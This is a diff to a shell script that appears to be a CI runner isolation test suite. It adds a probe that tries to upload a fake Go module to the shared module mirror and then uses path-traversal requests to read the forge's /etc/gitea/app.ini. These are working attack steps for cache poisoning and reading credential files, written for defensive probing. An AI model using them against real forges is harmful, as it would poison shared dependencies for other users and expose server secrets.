@@ -84,6 +84,15 @@ outer_half() {
 }
 # Where runners give jobs their access to the cache of workflows, by the forge's own address.
 cache_leases() { timeout 3 bash -c "exec 3<> /dev/tcp/$FORGE_ADDRESS/31009"; }
+# The mirror of Go modules, which serves all jobs: its content, and files beside it.
+poisons_modules() {
+  local mirror=${ACTIONS_CACHE_URL:-http://$FORGE_ADDRESS:31008/}go-modules method
+  for method in PUT POST PATCH; do
+    curl --silent --fail --request $method --data 'module example.org/m' "$mirror/example.org/m/@v/v1.0.0.mod" && return
+  done
+  curl --silent --fail --path-as-is "$mirror/../../../../../etc/gitea/app.ini" ||
+    curl --silent --fail --path-as-is "$mirror/example.org/m/@v/../../../../../../../../etc/gitea/app.ini"
+}
 # The cache's entries of others, with the job's own token and without one.
 other_caches() {
   local cache=${ACTIONS_CACHE_URL:-http://$FORGE_ADDRESS:31008/}_apis/artifactcache
@@ -131,6 +140,7 @@ probe outer-half outer_half
 probe next-engine next_engine
 probe cache-leases cache_leases
 probe other-caches other_caches
+probe poison-modules poisons_modules
 probe other-secret other_secret
 probe other-repository other_repository
 probe admin-api admin_api
